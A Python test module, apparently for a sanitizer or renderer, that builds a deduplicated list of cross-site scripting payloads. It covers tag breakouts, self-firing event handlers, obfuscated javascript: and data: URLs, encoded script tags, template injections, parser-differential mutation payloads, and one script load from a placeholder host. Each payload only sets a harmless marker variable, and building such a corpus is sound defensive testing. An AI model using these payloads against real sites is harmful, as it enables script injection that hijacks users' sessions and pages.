"""Ways in which people try to bring script or elements into a page that shows what they wrote.

Every attack would set `window.struck` if it ran. They are made of what such attacks are usually made of: ways out of
the place where a text stands, elements that run something by themselves, their handlers, addresses that are script,
encodings, and what parsers read differently.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.struck=1"

WAYS_OUT = (
    "",
    '">',
    "'>",
    '"/>',
    "-->",
    "--!>",
    "]]>",
    "</p>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</option></select>",
    "</a></li></ol></main>",
    "</ins></del>",
    "</main></body></html>",
    '"><!--',
)

# An element, how its handler's attribute is called, and what else it needs to run by itself.
BY_THEMSELVES = (
    ("img", "onerror", "src=x"),
    ("img", "onload", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw="),
    ("image", "onerror", "src=x"),
    ("svg", "onload", ""),
    ("svg/onload=", "", ""),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("body", "onhashchange", ""),
    ("iframe", "onload", ""),
    ("iframe", "onload", "srcdoc=x"),
    ("frameset", "onload", ""),
    ("object", "onerror", "data=x"),
    ("embed", "onload", "src=x"),
    ("video", "onerror", "src=x"),
    ("video", "onloadstart", "src=x"),
    ("audio", "onerror", "src=x"),
    ("source", "onerror", "src=x"),
    ("track", "onerror", "src=x default"),
    ("input", "onfocus", "autofocus"),
    ("select", "onfocus", "autofocus"),
    ("textarea", "onfocus", "autofocus"),
    ("button", "onfocus", "autofocus"),
    ("a", "onfocus", "href=# autofocus"),
    ("div", "onfocus", "tabindex=0 autofocus"),
    ("div", "onfocusin", "contenteditable autofocus"),
    ("details", "ontoggle", "open"),
    ("marquee", "onstart", ""),
    ("marquee", "onfinish", "loop=1"),
    ("style", "onload", ""),
    ("link", "onerror", "rel=stylesheet href=x"),
    ("script", "onerror", "src=x"),
    ("meta", "onload", ""),
    ("math", "onload", ""),
    ("isindex", "onfocus", "type=text autofocus"),
    ("keygen", "onfocus", "autofocus"),
    ("xss", "onanimationstart", "style=animation-name:rotation"),
    ("xss", "ontransitionend", "style=transition:1s id=x"),
    ("dialog", "onbeforetoggle", "open"),
    ("x", "oncontentvisibilityautostatechange", "style=display:block;content-visibility:auto"),
)

# Handlers that wait for the reader.
_HANDLERS = """
onclick ondblclick onmousedown onmouseup onmouseover onmouseout onmousemove onmouseenter onmouseleave
onwheel oncontextmenu onpointerdown onpointerover onpointerrawupdate ontouchstart ontouchend ondrag ondrop
ondragstart onkeydown onkeyup onkeypress oninput onbeforeinput onchange onsubmit onreset onselect
onselectstart onsearch oninvalid oncopy oncut onpaste onbeforecopy onscroll onscrollend onresize onblur
onfocusout onauxclick onanimationend onanimationiteration ontransitionrun oncanplay onplay ontimeupdate
onended onseeked onvolumechange onmessage onstorage onpopstate onunload onbeforeunload onafterprint
onbeforeprint onslotchange onclose oncancel
"""

QUOTES = ('="{}"', "='{}'", "={}", " = {}", "=`{}`", '=\n"{}"', "=&quot;{}&quot;")

ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\tjavascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "javascript&#x3A;{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    "&#0000106avascript:{}",
    "java&Tab;script:{}",
    "java&NewLine;script:{}",
    "\u0001javascript:{}",
    "javascript://%0a{}",
    "javascript:/*--></title></style></textarea>*/{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuc3RydWNrPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "//example.invalid/x.js",
    "feed:javascript:{}",
    "jar:javascript:{}",
    "view-source:javascript:{}",
)

PLACES_FOR_ADDRESSES = (
    '<a href="{}" autofocus>x</a>',
    "<a href={}>x</a>",
    '<area href="{}">',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><input type=submit></form>',
    '<form id=f></form><button form=f formaction="{}">x</button>',
    '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<svg><use href="{}#x"/></svg>',
    '<math><mi href="{}">x</mi></math>',
    '<script src="{}"></script>',
    '<img src="{}">',
    '<body background="{}">',
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]: {}",
)

SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script >{}</script >",
    "<script\t>{}</script>",
    "<script\n>{}</script>",
    "<script/x>{}</script>",
    "<script type=module>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script><!--{}//--></script>",
    "<svg><script>{}</script></svg>",
    "<svg><script>&#119;indow.struck=1</script></svg>",
    "<svg><![CDATA[><script>{}</script>]]></svg>",
    "<math><annotation-xml encoding=text/html><script>{}</script></annotation-xml></math>",
    "<!--><script>{}</script>-->",
    "<!--x--!><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<!DOCTYPE x [<!ENTITY x '<script>{}</script>'>]>&x;",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "%3Cscript%3E{}%3C/script%3E",
    "%253Cscript%253E{}%253C/script%253E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u02c2script\u02c3{}\u02c2/script\u02c3",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
    "{{% {} %}}",
    "{{{{ {} }}}}",
    "';{}//",
    '";{}//',
    "`;{}//",
    "</script><script>{}</script>",
    "\u2028{}\u2029",
)

# What one parser takes for text and the next one for an element.
PARSED_TWICE = (
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><p title='</template><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<svg><style><img src=x title='</style><img src=x onerror={}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={}>'>",
    "<table><td background='x'><img src=x onerror={}></table>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<title><a title='</title><img src=x onerror={}>'></title>",
    "<iframe><p title='</iframe><img src=x onerror={}>'></iframe>",
    "<a href='`x`onfocus={} autofocus'>x",
    "<img src='x` `onerror={}'>",
    "<img alt='`><img src=x onerror={}>'",
    "<img \x0bsrc=x \x0conerror={}>",
    "<img/src=x/onerror={}/>",
    "<img src=x\nonerror\n=\n{}>",
    "<img src=x onerror={}//",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{}>",
    "<svg><foreignObject><iframe onload={}></iframe></foreignObject></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{} /><a id=x><text y=20>x</text></a>",
)

# Nothing that runs: what would take a place, a name or a direction that the page needs.
STRUCTURE = (
    "<main id=_main>",
    "<a id=_main name=_main>",
    "<form name=body><input name=firstChild>",
    "<img name=querySelector>",
    "<a id=defaultView href=x:y>",
    "<div popover id=_rail data-rail>",
    "<div data-leave data-term data-continue=x hidden>",
    "<h1>A title</h1>",
    "<html lang=xx dir=rtl>",
    "<body class=plain style='display:none'>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=/assets/room.css>",
    "<base target=_blank>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<textarea>",
    "<select>",
    "<table><tr>",
    "<svg>",
    "<math>",
    "</div></div></div></div></div>",
    "&",
    "&nbsp;&lt;&#0;&#xD800;&notanentity;",
    "\u202eesrever",
    "\u2066\u2067\u2068 isolated",
    "a\u0300" * 60,
    "W" * 400,
    "\u200b\u200c\u200d\ufeff",
    "{% load x %}{{ x|safe }}{# x #}",
)


def attacks() -> Iterator[str]:
    """All of them, each once."""
    yield from dict.fromkeys(_all())


def _all() -> Iterator[str]:
    for way_out in WAYS_OUT:
        yield f"{way_out}<script>{RUN}</script>"
        yield f"{way_out}<img src=x onerror={RUN}>"
        yield f"{way_out}<svg onload={RUN}>"
        yield f"{way_out} autofocus onfocus={RUN} x="
    for element, handler, needed in BY_THEMSELVES:
        yield f"<{element} {needed} {handler}={RUN}>" if handler else f"<{element}{RUN}>"
        yield f'"><{element} {needed} {handler}="{RUN}"></{element}>' if handler else f"'><{element}{RUN}>"
    for handler in _HANDLERS.split():
        yield f"<b {handler}={RUN}>words</b>"
        yield f'" {handler}="{RUN}'
    for quote in QUOTES:
        yield f"<img src=x onerror{quote.format(RUN)}>"
        yield f"<details open ontoggle{quote.format(RUN)}>"
    for address in ADDRESSES:
        for place in PLACES_FOR_ADDRESSES[:: 3 if address.startswith(("feed", "jar", "view")) else 1]:
            yield place.format(address.format(RUN))
    for form in (*SCRIPTS, *PARSED_TWICE):
        yield form.format(RUN)
    yield from STRUCTURE
